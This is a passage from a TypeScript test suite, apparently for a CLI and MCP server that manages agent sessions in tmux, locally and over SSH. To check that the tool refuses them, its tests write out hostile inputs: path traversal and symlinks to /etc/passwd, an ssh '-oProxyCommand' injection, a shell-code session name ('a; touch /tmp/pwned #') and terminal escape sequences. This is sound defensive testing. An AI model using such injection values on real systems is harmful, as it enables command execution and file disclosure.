      expect((await call('kill_session', { names: ['agent-run'], grace_seconds: 2 })).isError).toBeFalsy()
      // And a repair, asked for: the stale lock of busy is removed.
      const repaired = await call('cleanup', { fix: true })
      expect(repaired.structuredContent).toMatchObject({ mode: 'fixed' })
      expect(existsSync(path.join(root, '.claude/locks/busy.lock'))).toBe(false)
    } finally {
      await client.close()
    }
    expect(stderr()).toBe('')
  })

  test('a cancelled wait stops at once', async () => {
    const root = await makeEngineProject()
    expect((await cli(['start', 'ralph', 'long', '--yes', '-C', root], { env: { MOCK_END: 'hang:1' } })).code).toBe(0)
    const { client } = await mcpClient(root, ['--allow-actions'])
    try {
      const controller = new AbortController()
      const began = Date.now()
      const waiting = client.callTool({ name: 'wait_for_sessions', arguments: { names: ['long'], timeout_seconds: 60 } }, undefined, {
        signal: controller.signal,
      })
      setTimeout(() => controller.abort(), 500)
      await expect(waiting).rejects.toThrow(/abort/i)
      expect(Date.now() - began).toBeLessThan(10_000)
      // The server goes on serving.
      expect(((await client.callTool({ name: 'list_sessions', arguments: {} })) as ToolResult).isError).toBeFalsy()
    } finally {
      await client.close()
    }
  })

  test('without the SDK, mcp says how to install it in one line; list does not need it', async () => {
    const root = await makeEngineProject('crashed-loop')
    // A copy of the tool with zod beside it and nothing else.
    const dir = path.join(BASE, `no-sdk-${projects}`)
    mkdirSync(path.join(dir, 'node_modules'), { recursive: true })
    cpSync(SESSIONS, path.join(dir, 'sessions.ts'))
    symlinkSync(path.join(HERE, 'node_modules', 'zod'), path.join(dir, 'node_modules', 'zod'))
    writeFileSync(path.join(dir, 'package.json'), '{"type": "module"}\n')
    const run = (args: string[]) =>
      spawnSync(NATIVE ? process.execPath : TSX, [path.join(dir, 'sessions.ts'), ...args], { cwd: root, env: ENV, encoding: 'utf8' })
    const mcp = run(['mcp'])
    expect(mcp.status).toBe(1)
    expect(mcp.stdout).toBe('')
    expect(mcp.stderr).toBe('sessions: mcp needs the MCP SDK beside this file: npm install @modelcontextprotocol/sdk@1\n')
    const listed = run(['list', '--json'])
    expect(listed.stderr).toBe('')
    expect(JSON.parse(listed.stdout).sessions.map((row: SessionRow) => row.name)).toEqual(['busy'])
  })

  test('setup claude writes the /sessions command once, leaves it when it is the same, refuses to replace another without --force', async () => {
    const root = await makeEngineProject()
    const file = path.join(root, '.claude/commands/sessions.md')
    const first = await cli(['setup', 'claude', '--json', '-C', root])
    expect(first.stderr).toBe('')
    expect(first.code).toBe(0)
    const result = JSON.parse(first.stdout)
    expect(result).toMatchObject({ project: root, file: '.claude/commands/sessions.md', action: 'written' })
    expect(result.claude_mcp_add).toMatch(/^claude mcp add sessions -- .*sessions\.ts mcp --root /)
    expect(result.codex_config).toMatch(/^\[mcp_servers\.sessions\]\ncommand = ".+"\nargs = \[.*"mcp","--root",/)
    const text = readFileSync(file, 'utf8')
    expect(text).toMatch(/^---\ndescription: .+\nargument-hint: .+\nallowed-tools: .+\n---\n/)
    expect(allowedCommands(text)).toEqual(READ_ONLY_COMMANDS)
    expect(result).toMatchObject({
      pre_approved: READ_ONLY_COMMANDS,
      asks_first: expect.arrayContaining(['start', 'kill', 'notify', 'cleanup']),
    })
    expect(result.claude_mcp_add_actions).toBe(`${result.claude_mcp_add} --allow-actions`)
    expect(text).toContain('$ARGUMENTS')
    for (const action of ['start', 'list', 'status', 'monitor', 'attach', 'kill', 'cleanup', 'resume', 'wait', 'events'])
      expect(text, action).toContain(` ${action}`)
    // Again: the same file, unchanged.
    expect(JSON.parse((await cli(['setup', 'claude', '--json', '-C', root])).stdout).action).toBe('unchanged')
    // A file of the user's own: never replaced without --force.
    writeFileSync(file, 'my own command\n')
    const refused = await cli(['setup', 'claude', '-C', root])
    expect(refused.code).toBe(1)
    expect(refused.stderr).toMatch(
      /^sessions: \.claude\/commands\/sessions\.md exists and differs; keep it, or replace it with: .*setup claude --force/,
    )
    expect(readFileSync(file, 'utf8')).toBe('my own command\n')
    const forced = await cli(['setup', 'claude', '--force', '-C', root])
    expect(forced.code).toBe(0)
    expect(forced.stdout).toMatch(/^Replaced \.claude\/commands\/sessions\.md/)
    expect(readFileSync(file, 'utf8')).toBe(text)
    expect((await cli(['setup', 'codex', '-C', root])).code).toBe(2)
  })

  test('the /sessions command pre-approves only commands that change nothing, proven by running each; --allow-actions adds kill and resume', async () => {
    const root = await makeEngineProject('running-loop')
    const other = await makeEngineProject('crashed-loop')
    const result = JSON.parse((await cli(['setup', 'claude', '--json', '-C', root])).stdout)
    const file = path.join(root, '.claude/commands/sessions.md')
    const approved = allowedCommands(readFileSync(file, 'utf8'))
    expect(approved).toEqual(READ_ONLY_COMMANDS)
    // Each, with what it takes, changes nothing in this project, another one, or the tool's own state.
    const state = path.join(BASE, 'state')
    mkdirSync(state, { recursive: true })
    const before = [snapshot(root), snapshot(other), snapshot(state)]
    const runs: Record<string, string[][]> = {
      list: [
        ['list', '--json'],
        ['list', '--all'],
        ['list', '--resumable', '--names'],
      ],
      status: [['status', 'loop-auth']],
      cost: [['cost'], ['cost', '--by', 'iteration', '--since', '1d']],
      monitor: [['monitor', 'loop-auth', '-n', '5']],
      events: [['events'], ['events', 'loop-auth', '--since', '1d']],
      wait: [['wait', 'busy', '--timeout', '0.5', '-C', other]],
      help: [['help'], ['help', 'kill']],
      version: [['version']],
    }
    for (const command of approved) {
      expect(runs[command], command).toBeDefined()
      for (const args of runs[command]) {
        const ran = await cli(args, { cwd: root })
        expect(ran.code, `${args.join(' ')}: ${ran.stderr}`).not.toBe(2)
      }
    }
    expect([snapshot(root), snapshot(other), snapshot(state)]).toEqual(before)
    // No pre-approved command takes an option that runs a program, sends anything or repairs.
    for (const command of approved)
      expect(commandFlags(command), command).not.toEqual(expect.arrayContaining([expect.stringMatching(RUNS_OR_CHANGES)]))
    expect(result.asks_first).toEqual(expect.arrayContaining(['start', 'kill', 'resume', 'cleanup', 'notify', 'mcp', 'setup']))

    // --allow-actions: kill and resume too, and neither can be made to run a program of the agent's choice.
    const actions = await cli(['setup', 'claude', '--allow-actions', '--force', '-C', root])
    expect(actions.code).toBe(0)
    expect(actions.stdout).toMatch(
      /Claude runs these without asking: list, status, cost, monitor, kill, resume, wait, events, help, version\./,
    )
    expect(allowedCommands(readFileSync(file, 'utf8'))).toEqual([
      'list',
      'status',
      'cost',
      'monitor',
      'kill',
      'resume',
      'wait',
      'events',
      'help',
      'version',
    ])
    for (const command of ['kill', 'resume'])
      expect(commandFlags(command), command).not.toEqual(expect.arrayContaining([expect.stringMatching(/^--(runner|exec|webhook)$/)]))
    const runner = await cli(['resume', 'busy', '--runner=/bin/sh', '-C', other])
    expect(runner).toMatchObject({ code: 2, stderr: "sessions: resume: unknown option '--runner'\n" })

    // The rules name this very file by its absolute path, with --agent: what a rule lets run acts on the
    // project of Claude's folder only (no -C, no other machine), and starts with its own files only.
    const rule = /^allowed-tools: Bash\(([^)]*) list:\*\)/m.exec(readFileSync(file, 'utf8'))![1]
    expect(rule).toMatch(new RegExp(`(^| )${escaped(SESSIONS)} --agent$`))
    for (const args of [
      ['list', '--host', 'far:/x'],
      ['list', '--hosts'],
      ['status', 'busy', '-C', other],
      ['resume', 'busy', '--root', other],
    ]) {
      const refused = await cli(['--agent', ...args], { cwd: root })
      expect(refused.code, args.join(' ')).toBe(2)
      expect(refused.stderr).toMatch(
        /^sessions: --agent takes no --(host|hosts|root): an agent's command acts on the project of its folder only\n$/,
      )
    }
    const shadow = await cli(['--agent', 'resume', 'busy', '--yes', '--input=/etc/passwd'], { cwd: other })
    expect(shadow.code).toBe(1)
    expect(shadow.stderr).toMatch(/^sessions: input \/etc\/passwd is outside the project: an agent may start with files of /)
    expect(snapshot(other)).toEqual(before[1])
  })

  test('the MCP server only reads unless --allow-actions, serves the projects it was started for, and refuses oversized or NUL arguments', async () => {
    const root = await makeEngineProject('crashed-loop')
    const other = await makeEngineProject('crashed-loop')
    const empty = mkdtempSync(path.join(BASE, 'empty-'))
    const call = async (client: Awaited<ReturnType<typeof mcpClient>>['client'], name: string, args: Record<string, unknown>) =>
      (await client.callTool({ name, arguments: args })) as ToolResult
    const reader = await mcpClient(root)
    try {
      expect((await reader.client.listTools()).tools.map((tool) => tool.name)).toEqual([
        'list_sessions',
        'session_status',
        'session_output',
        'session_cost',
        'session_events',
        'wait_for_sessions',
      ])
      // Another folder, however named: refused with one line, which never echoes a huge value whole.
      for (const given of [other, empty, '/', '..', `${root}/..`]) {
        const refused = await call(reader.client, 'list_sessions', { root: given })
        expect(refused.isError, given).toBe(true)
        expect(refused.content[0].text, given).toMatch(/^root ".+" is not a project this server serves \(/)
      }
      expect((await call(reader.client, 'list_sessions', { root })).isError).toBeFalsy()
      for (const args of [{ root: 'x'.repeat(5_000_000) }, { root: 'a\0b' }]) {
        const refused = await call(reader.client, 'list_sessions', args)
        expect(refused.isError).toBe(true)
        expect(refused.content[0].text.length).toBeLessThan(2000)
      }
    } finally {
      await reader.client.close()
    }
    expect(existsSync(path.join(empty, '.claude'))).toBe(false)

    // Two projects, named; an agent's start takes the project's own pipelines and inputs only.
    writeFileSync(path.join(root, 'notes.md'), 'inside\n')
    mkdirSync(path.join(root, '.claude/pipelines'), { recursive: true })
    symlinkSync('/etc/passwd', path.join(root, '.claude/pipelines/evil.yaml'))
    const outsideStage = mkdtempSync(path.join(BASE, 'stage-'))
    symlinkSync(outsideStage, path.join(root, 'scripts/stages/linked'))
    const actor = await mcpClient(root, ['--root', root, '--root', other, '--allow-actions'])
    try {
      expect((await call(actor.client, 'list_sessions', { root: other })).isError).toBeFalsy()
      expect((await call(actor.client, 'list_sessions', { root: empty })).isError).toBe(true)
      const before = [snapshot(root), snapshot(other)]
      const refusals: [Record<string, unknown>, RegExp][] = [
        [{ pipeline: '/etc/passwd', name: 'p1' }, /^pipeline file not found: \/etc\/passwd/],
        [
          { pipeline: 'evil', name: 'p2' },
          /^pipeline .*evil\.yaml is outside scripts\/pipelines or \.claude\/pipelines: an agent may start with files of /,
        ],
        [{ pipeline: '../../../etc/passwd', name: 'p3' }, /^pipeline file not found/],
        [{ pipeline: '../../notes.md', name: 'p4' }, /^pipeline .*notes\.md is outside scripts\/pipelines or \.claude\/pipelines: /],
        [{ type: 'linked', name: 's1' }, /^stage type .*linked is outside the project: /],
        [{ type: 'ralph', name: 'i1', inputs: ['/etc/passwd'] }, /^input \/etc\/passwd is outside the project/],
        [{ type: 'ralph', name: 'i2', inputs: ['../../etc/hostname'] }, /is (outside the project|not there)/],
        [{ type: 'ralph', name: 'i3', inputs: ['notes.md'], root: empty }, /is not a project this server serves/],
        [{ type: 'ralph', name: 'c1', context: 'a\0b' }, /Input validation error/],
        [{ type: 'ralph', name: 'c2', context: 'x'.repeat(200_000) }, /Input validation error/],
      ]
      for (const [args, message] of refusals) {
        const refused = await call(actor.client, 'start_session', args)
        expect(refused.isError, JSON.stringify(args).slice(0, 80)).toBe(true)
        expect(refused.content[0].text, JSON.stringify(args).slice(0, 80)).toMatch(message)
        expect(refused.content[0].text.length).toBeLessThan(2000)
      }
      expect([snapshot(root), snapshot(other)]).toEqual(before)
      expect(existsSync(path.join(empty, '.claude'))).toBe(false)
    } finally {
      await actor.client.close()
    }
  })

  test('every answer fits what an agent host accepts: session_events pages with its cursor through a big project', async () => {
    const root = await makeEngineProject()
    const summary = 'did a thing '.repeat(20)
    for (let n = 0; n < 40; n++) {
      const name = `s${n}`
      const dir = path.join(root, '.claude/pipeline-runs', name)
      mkdirSync(dir, { recursive: true })
      const history = Array.from({ length: 100 }, (_, i) => ({
        iteration: i + 1,
        timestamp: isoSeconds(Date.parse('2026-11-20T00:00:00Z') + (n * 100 + i) * 60_000),
        stage: 'ralph',
        decision: 'continue',
        summary,
      }))
      writeFileSync(
        path.join(dir, 'state.json'),
        JSON.stringify({
          session: name,
          type: 'loop',
          started_at: '2026-11-20T00:00:00Z',
          status: 'complete',
          current_stage: 0,
          iteration: 100,
          iteration_completed: 100,
          stages: [],
          history,
        }),
      )
    }
    const all = (await cli(['events', '--json', '-C', root])).stdout.trim().split('\n')
    expect(all.length).toBeGreaterThan(4000)
    const { client } = await mcpClient(root)
    try {
      const seen: string[] = []
      let cursor: string | undefined
      for (let calls = 0; calls < 200; calls++) {
        const answer = (await client.callTool({
          name: 'session_events',
          arguments: { limit: 1000, ...(cursor ? { cursor } : {}) },
        })) as ToolResult
        expect(answer.isError).toBeFalsy()
        expect(JSON.stringify(answer.structuredContent).length).toBeLessThan(60_000)
        expect(answer.content[0].text.length).toBeLessThan(5_000)
        const data = answer.structuredContent as {
          events: { session: string; event: string; ts: string; iteration: number }[]
          more: number
          cursor: string
        }
        seen.push(...data.events.map((event) => `${event.session} ${event.event} ${event.ts} ${event.iteration}`))
        cursor = data.cursor
        if (!data.more) break
      }
      expect(seen.length).toBe(all.length)
      expect(new Set(seen).size).toBe(seen.length)
      const listed = (await client.callTool({ name: 'list_sessions', arguments: {} })) as ToolResult
      expect(JSON.stringify(listed.structuredContent).length).toBeLessThan(60_000)
    } finally {
      await client.close()
    }
  })
})

describe('other machines, over a real OpenSSH server on loopback', () => {
  /**
   * An sshd of the tests' own: a free port on 127.0.0.1, a throwaway host key, an authorized client key and
   * a config in the tests' folder; an ssh config with the aliases `remote-test` (it) and `closed-test` (a
   * closed port). SESSIONS_SSH points ssh at that config.
   */
  async function startSshd() {
    if (!existsSync('/usr/sbin/sshd')) throw new Error('sshd not found: apt install openssh-server (.ci/run does)')
    const dir = path.join(BASE, `ssh-${++projects}`)
    mkdirSync(dir)
    for (const key of ['host_key', 'client_key']) execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', path.join(dir, key)])
    cpSync(path.join(dir, 'client_key.pub'), path.join(dir, 'authorized_keys'))
    const port = await new Promise<number>((resolve) => {
      const probe = createServer().listen(0, '127.0.0.1', () => {
        const { port } = probe.address() as AddressInfo
        probe.close(() => resolve(port))
      })
    })
    const closed = await new Promise<number>((resolve) => {
      const probe = createServer().listen(0, '127.0.0.1', () => {
        const { port } = probe.address() as AddressInfo
        probe.close(() => resolve(port))
      })
    })
    writeFileSync(
      path.join(dir, 'sshd_config'),
      [
        `Port ${port}`,
        'ListenAddress 127.0.0.1',
        `HostKey ${dir}/host_key`,
        `AuthorizedKeysFile ${dir}/authorized_keys`,
        `PidFile ${dir}/sshd.pid`,
        'StrictModes no',
        'UsePAM no',
        'PasswordAuthentication no',
        'KbdInteractiveAuthentication no',
        'PermitRootLogin prohibit-password',
        'LogLevel ERROR',
        '',
      ].join('\n'),
    )
    writeFileSync(path.join(dir, 'known_hosts'), `[127.0.0.1]:${port} ${readFileSync(path.join(dir, 'host_key.pub'), 'utf8')}`)
    const user = execFileSync('id', ['-un'], { encoding: 'utf8' }).trim()
    const alias = (name: string, p: number) =>
      `Host ${name}\n  HostName 127.0.0.1\n  Port ${p}\n  User ${user}\n  IdentityFile ${dir}/client_key\n  IdentitiesOnly yes\n  UserKnownHostsFile ${dir}/known_hosts\n  StrictHostKeyChecking yes\n`
    writeFileSync(path.join(dir, 'ssh_config'), `${alias('remote-test', port)}${alias('closed-test', closed)}`)
    execFileSync('/usr/sbin/sshd', ['-f', path.join(dir, 'sshd_config'), '-E', path.join(dir, 'sshd.log')])
    await waitFor('sshd', () => existsSync(path.join(dir, 'sshd.pid')))
    sshds.push(path.join(dir, 'sshd.pid'))
    // The far side: its own tmux server and registry, selected by its environment (SESSIONS_REMOTE).
    const far = { TMUX_TMPDIR: path.join(dir, 'tmux'), SESSIONS_TMUX_SOCKET: 'far', XDG_STATE_HOME: path.join(dir, 'state') }
    mkdirSync(far.TMUX_TMPDIR)
    farServers.push(far)
    const self = NATIVE ? `${process.execPath} ${SESSIONS}` : `${TSX} ${SESSIONS}`
    const remote = (extra = '') =>
      `env ${Object.entries(far)
        .map(([k, v]) => `${k}=${v}`)
        .join(' ')} ${extra} ${self}`
    return { dir, env: { SESSIONS_SSH: `ssh -F ${dir}/ssh_config`, SESSIONS_REMOTE: remote() }, remote, far }
  }
  const sshds: string[] = []
  const farServers: { TMUX_TMPDIR: string; SESSIONS_TMUX_SOCKET: string }[] = []
  afterAll(() => {
    for (const far of farServers)
      spawnSync('tmux', ['-L', far.SESSIONS_TMUX_SOCKET, 'kill-server'], { env: { ...ENV, TMUX_TMPDIR: far.TMUX_TMPDIR } })
    for (const pidFile of sshds) {
      try {
        process.kill(Number(readFileSync(pidFile, 'utf8')), 'SIGTERM')
      } catch {
        /* gone */
      }
    }
    // The shared connections (ControlPersist keeps their masters a minute) and the sshd sessions serving
    // them: this suite's, by the environment they were started with; they go now, not a minute after the suite.
    for (const { pid, command } of processesOfThisSuite())
      if (/^sshd?[: ]/.test(command))
        try {
          process.kill(pid, 'SIGTERM')
        } catch {
          /* gone */
        }
  })

  test('list merges a remote project with this one (host on every row); status, monitor, attach (ssh -t), start and kill act there; an unreachable host is one line', async () => {
    const ssh = await startSshd()
    const here = await makeProject('complete-loop')
    const there = await makeEngineProject()
    const env = { ...ssh.env, SESSIONS_REMOTE: ssh.remote('MOCK_END=hang:1') }
    const host = `remote-test:${there}`
    // start there: its output passes through, its exit status too.
    const started = await cli(['start', 'ralph', 'far', '5', '--yes', '--host', host], { env, cwd: here })
    expect(withoutWaits(started.stderr)).toBe('')
    expect(started.code).toBe(0)
    expect(started.stdout).toMatch(/^✓ Started far \(ralph, max 5\) in tmux session pipeline-far/)
    // Its hints are commands for this machine: through --host, not -C (a folder there).
    const hostArg = new RegExp(` --host '?remote-test:${escaped(there)}'?$`)
    const hints = started.stdout.split('\n').filter((line) => /sessions\.ts (status|monitor|attach|kill) far/.test(line))
    expect(hints).toHaveLength(4)
    for (const line of hints) {
      expect(line.trim()).toMatch(
        new RegExp(`^${escaped(NATIVE ? 'node' : TSX)} ${escaped(SESSIONS)} \\w+ far( --follow)?${hostArg.source.slice(0, -1)}`),
      )
      expect(line).not.toContain(' -C ')
    }
    // The caller's words stay the caller's: neither the engine there nor the tmux server this start began
    // there (whose every later session would inherit them) has them.
    const farEngine = Number(/engine PID (\d+)/.exec(started.stdout)![1])
    expect(readFileSync(`/proc/${farEngine}/environ`, 'utf8')).not.toMatch(/SESSIONS_VIA_/)
    const farGlobal = spawnSync('tmux', ['-L', 'far', 'show-environment', '-g'], {
      env: { ...ENV, TMUX_TMPDIR: ssh.far.TMUX_TMPDIR },
      encoding: 'utf8',
    })
    expect(farGlobal.stdout).toContain('PATH=')
    expect(farGlobal.stdout).not.toMatch(/SESSIONS_VIA_/)
    // Not on this machine's tmux server: on the far side's.
    expect(tmuxSessionNames()).toEqual([])
    const farSessions = spawnSync('tmux', ['-L', 'far', 'list-sessions', '-F', '#{session_name}'], {
      env: { ...ENV, TMUX_TMPDIR: ssh.far.TMUX_TMPDIR },
      encoding: 'utf8',
    }).stdout
    expect(farSessions).toBe('pipeline-far\n')

    const began = Date.now()
    const listed = await cli(['list', '--json', '--host', host, '--host', 'closed-test:/srv/x'], { env, cwd: here })
    expect(listed.code).toBe(0)
    expect(listed.stderr).toBe('')
    const result = JSON.parse(listed.stdout)
    expect(result.sessions.map((row: SessionRow) => [row.host, row.project, row.name, row.health])).toEqual([
      [null, here, 'done-loop', 'complete'],
      ['remote-test', there, 'far', 'running'],
    ])
    expect(result.hosts).toEqual([{ host: 'closed-test', root: '/srv/x', error: expect.stringMatching(/Connection refused/) }])
    expect(result.projects.map((p: { host: string | null; project: string }) => [p.host, p.project])).toEqual([
      [null, here],
      ['remote-test', there],
    ])
    expect(Date.now() - began).toBeLessThan(15_000)
    const text = (await cli(['list', '--host', host, '--host', 'closed-test:/srv/x'], { env, cwd: here })).stdout
    expect(text).toMatch(/^HOST +NAME +TYPE/m)
    expect(text).toMatch(/^here +done-loop +/m)
    expect(text).toMatch(new RegExp(`^Sessions in ${escaped(there)} on remote-test\\n\\nHOST .*\\nremote-test +far +ralph`, 'm'))
    expect(text).toMatch(
      /Hosts without an answer:\n {2}! closed-test:\/srv\/x: ssh: connect to host 127\.0\.0\.1 port \d+: Connection refused/,
    )

    // status and monitor there, passed through as the far side prints them.
    const status = await cli(['status', 'far', '--json', '--host', host], { env, cwd: here })
    expect(status.code).toBe(0)
    // Its rows as the far side sees them (host null: its own machine); list is what merges and names hosts.
    expect(JSON.parse(status.stdout)).toMatchObject({ name: 'far', project: there, health: 'running', host: null })
    const monitor = await cli(['monitor', 'far', '--host', host], { env, cwd: here })
    // attach there from a terminal (a pane of another private server): ssh -t, and a client of the far
    // side's tmux server appears on the session.
    const outer = `${SOCKET}-ssh-term`
    const farTmux = (...args: string[]) =>
      spawnSync('tmux', ['-L', 'far', ...args], { env: { ...ENV, TMUX_TMPDIR: ssh.far.TMUX_TMPDIR }, encoding: 'utf8' }).stdout
    try {
      const vars = Object.entries(env).flatMap(([k, v]) => ['-e', `${k}=${v}`])
      const self = [NATIVE ? process.execPath : TSX, SESSIONS, 'attach', 'far', '--read-only', '--host', host].join(' ')
      execFileSync('tmux', ['-L', outer, 'new-session', '-d', '-s', 'terminal', '-x', '160', '-y', '45', ...vars, self], { env: ENV })
      await waitFor(
        'the far client',
        () => farTmux('list-clients', '-F', '#{client_session} #{client_readonly}').trim() === 'pipeline-far 1',
      )
    } finally {
      spawnSync('tmux', ['-L', outer, 'kill-server'], { env: ENV })
    }
    expect(monitor.stdout).toMatch(/^far: running/)
    const unknown = await cli(['status', 'nobody', '--host', host], { env, cwd: here })
    expect(unknown.code).toBe(1)
    expect(unknown.stderr).toBe(`sessions: no session nobody in ${there}; its sessions: far\n`)
    // With --all and another project here, the far side is asked once: its rows once.
    const alsoHere = await makeProject('complete-loop')
    mkdirSync(path.dirname(path.join(process.env.XDG_STATE_HOME!, 'sessions-ts', 'projects')), { recursive: true })
    writeFileSync(path.join(process.env.XDG_STATE_HOME!, 'sessions-ts', 'projects'), `${alsoHere}\n`)
    const everything = JSON.parse((await cli(['list', '--all', '--json', '--host', host], { env, cwd: here })).stdout)
    expect(everything.sessions.filter((row: SessionRow) => row.name === 'far')).toHaveLength(1)
    expect(everything.projects.map((p: { host: string | null; project: string }) => [p.host, p.project])).toEqual([
      [null, here],
      [null, alsoHere],
      ['remote-test', there],
    ])
    // kill there.
    const killed = await cli(['kill', 'far', '--grace', '2', '--host', host], { env, cwd: here })
    expect(killed.code).toBe(0)
    expect(killed.stdout.trim().split('\n').at(-1)).toMatch(new RegExp(`^ +resume: .*sessions\\.ts resume far${hostArg.source}`))
    const after = JSON.parse((await cli(['list', '--json', '--host', host], { env, cwd: here })).stdout)
    expect(after.sessions.find((row: SessionRow) => row.name === 'far')).toMatchObject({ host: 'remote-test', health: 'killed' })
    expect(after.sessions.find((row: SessionRow) => row.name === 'far').resume_command).toMatch(/ resume far --host remote-test:/)
    // Its files are there: read through ssh from here.
    const ended = await cli(['status', 'far', '--host', host], { env, cwd: here })
    expect(ended.stdout).toContain(`ssh -F ${ssh.dir}/ssh_config -t remote-test 'less ${there}/.claude/pipeline-runs/far/progress-far.md'`)
  })

  test('a far side that prints without end is cut off and said; one whose projects hide its rows shows its rows all the same', async () => {
    const ssh = await startSshd()
    const here = await makeProject('complete-loop')
    const endless = path.join(BASE, `endless-${projects}.sh`)
    writeFileSync(endless, '#!/bin/sh\nhead -c 600000000 /dev/zero | tr "\\\\0" " "\n', { mode: 0o755 })
    const before = process.memoryUsage().rss
    const flooded = await cli(['list', '--json', '--host', 'remote-test:/x'], { env: { ...ssh.env, SESSIONS_REMOTE: endless }, cwd: here })
    expect(flooded.code).toBe(0)
    const answer = JSON.parse(flooded.stdout)
    expect(answer.hosts).toEqual([{ host: 'remote-test', root: '/x', error: 'its answer is longer than the 64 MiB this tool takes' }])
    expect(answer.sessions.map((row: SessionRow) => row.name)).toEqual(['done-loop'])
    expect(process.memoryUsage().rss - before).toBeLessThan(400 * 1024 * 1024)
    // A far side that lists a session but claims no project for it: the row is shown all the same.
    const hiding = path.join(BASE, `hiding-${projects}.sh`)
    const row = { name: 'hidden', project: '/far', health: 'crashed', why: 'lock left', resume_command: null, host: null }
    writeFileSync(
      hiding,
      `#!/bin/sh\necho '${JSON.stringify({ version: '0.1.0', project: '/far', sessions: [row], warnings: [], counts: { crashed: 1 }, projects: [] })}'\n`,
      { mode: 0o755 },
    )
    const text = await cli(['list', '--host', 'remote-test:/far'], { env: { ...ssh.env, SESSIONS_REMOTE: hiding }, cwd: here })
    expect(text.stdout).toMatch(/\bhidden\b.*crashed/)
    const json = JSON.parse(
      (await cli(['list', '--json', '--host', 'remote-test:/far'], { env: { ...ssh.env, SESSIONS_REMOTE: hiding }, cwd: here })).stdout,
    )
    expect(json.projects).toContainEqual({ project: '/far', host: 'remote-test', counts: { crashed: 1 }, sessions: 1 })
  })

  test('a host without the tool, with another version, or named like an ssh option: said, never guessed around', async () => {
    const ssh = await startSshd()
    const here = await makeProject('empty')
    const bare = path.join(BASE, `bare-${projects}`)
    mkdirSync(bare)
    const old = path.join(BASE, `old-tool-${projects}.sh`)
    writeFileSync(old, '#!/bin/sh\necho \'{"project": "/x", "sessions": [], "counts": {}, "warnings": [], "next": []}\'\n', { mode: 0o755 })
    const other = path.join(BASE, `other-version-${projects}.sh`)
    writeFileSync(other, '#!/bin/sh\necho \'{"version": "0.0.9", "project": "/x", "sessions": []}\'\n', { mode: 0o755 })
    const run = async (remote: string | undefined, root: string) =>
      JSON.parse(
        (await cli(['list', '--json', '--host', `remote-test:${root}`], { env: { ...ssh.env, SESSIONS_REMOTE: remote ?? '' }, cwd: here }))
          .stdout,
      ).hosts
    expect(await run(undefined, bare)).toEqual([{ host: 'remote-test', root: bare, error: `no sessions.ts in ${bare} there` }])
    expect(await run(old, '/x')).toEqual([
      { host: 'remote-test', root: '/x', error: expect.stringMatching(/^an older sessions\.ts there \(its answer has no version/) },
    ])
    expect(await run(other, '/x')).toEqual([
      { host: 'remote-test', root: '/x', error: expect.stringMatching(/^sessions\.ts 0\.0\.9 there, \d+\.\d+\.\d+ here/) },
    ])
    // A far side whose answer is not a list this tool would make: a name that is shell code, no projects.
    const forged = path.join(BASE, `forged-${projects}.sh`)
    const row = { name: 'a; touch /tmp/pwned #', project: '/x', health: 'crashed', resume_command: 'x' }
    writeFileSync(
      forged,
      `#!/bin/sh\necho '${JSON.stringify({ version: '0.1.0', project: '/x', sessions: [row], warnings: [], projects: [] })}'\n`,
      {
        mode: 0o755,
      },
    )
    const bad = await cli(['list', '--json', '--host', 'remote-test:/x', '--host', 'remote-test:/y'], {
      env: { ...ssh.env, SESSIONS_REMOTE: forged },
      cwd: here,
    })
    expect(bad.code).toBe(0)
    expect(JSON.parse(bad.stdout).hosts).toEqual([
      { host: 'remote-test', root: '/x', error: expect.stringMatching(/^its answer is not a list of sessions \(sessions\.0\.name: /) },
      { host: 'remote-test', root: '/y', error: expect.stringMatching(/^its answer is not a list of sessions/) },
    ])
    // What another machine prints reaches this terminal sanitized (a title, a clipboard write, a bell); --json exact.
    const noisy = path.join(BASE, `noisy-${projects}.sh`)
    writeFileSync(
      noisy,
      `#!/bin/sh
printf 'far: \\033]0;owned\\007running \\033]52;c;Zm9v\\007\\n'
printf 'sessions: \\033[2Jbad\\n' >&2
exit 3
`,
      { mode: 0o755 },
    )
    const shown = await cli(['status', 'far', '--host', 'remote-test:/x'], { env: { ...ssh.env, SESSIONS_REMOTE: noisy }, cwd: here })
    expect([shown.code, shown.stdout, shown.stderr]).toEqual([3, 'far: running \n', 'sessions: bad\n'])
    const exact = await cli(['status', 'far', '--json', '--host', 'remote-test:/x'], {
      env: { ...ssh.env, SESSIONS_REMOTE: noisy },
      cwd: here,
    })
    expect(exact.stdout).toContain('\x1b]52;c;Zm9v')
    // A character that ssh hands over in two reads arrives whole.
    const split = path.join(BASE, `split-${projects}.sh`)
    writeFileSync(split, `#!/bin/sh\nprintf 'caf\\303'\nsleep 0.3\nprintf '\\251\\n'\n`, { mode: 0o755 })
    for (const json of [[], ['--json']]) {
      const whole = await cli(['status', 'far', ...json, '--host', 'remote-test:/x'], {
        env: { ...ssh.env, SESSIONS_REMOTE: split },
        cwd: here,
      })
      expect(whole.stdout).toBe('café\n')
    }
    // attach off a terminal: the command that attaches from here, through ssh -t.
    const attach = await cli(['attach', 'far', '--host', 'remote-test:/srv/p'], { env: ssh.env, cwd: here })
    expect(attach.code).toBe(0)
    expect(attach.stdout).toMatch(
      /^Not a terminal; to watch it live, run:\n {2}ssh -F \S+ .* -t -- remote-test .*attach far --root \/srv\/p'?\n$/,
    )
    for (const [args, message] of [
      [['list', '--host', 'remote-test:relative/p'], /^sessions: --host: ROOT must be a path from \/ or from ~\/ there/],
      [['list', '--host=-oProxyCommand=touch /tmp/x:/r'], /^sessions: --host needs DEST:ROOT/],
      [['list', '--host', '-oProxyCommand=touch /tmp/x:/r'], /^sessions: list: Option '--host' argument is ambiguous/],
      [['list', '--host', 'nocolon'], /^sessions: --host needs DEST:ROOT/],
      [['status', 'a', '--host', 'remote-test:/a', '--host', 'remote-test:/b'], /^sessions: status acts on one machine: give --host once/],
      [['help', '--host', 'remote-test:/a'], /^sessions: help takes no --host/],
    ] as [string[], RegExp][]) {
      const refused = await cli(args, { env: ssh.env, cwd: here })
      expect(refused.code, args.join(' ')).toBe(2)
      expect(refused.stderr).toMatch(message)
    }
  })
})

describe('where each session is going: its stop rule, its progress, its end', () => {
  test('a judgment loop: its votes counted as the agents give them, a range for its end, stopped by consensus', async () => {
    const root = await makeEngineProject()
    // improve-plan: judgment, at least 2 iterations, 2 agents in a row. The agents say continue, stop, then stop.
    await startOk(['start', 'improve-plan', 'plan', '6', '--yes', '-C', root], {
      env: { MOCK_PACE: '1.5', MOCK_DECISIONS: 'continue,stop,stop' },
    })
    const voted = await waitFor('one stop vote', async () => {
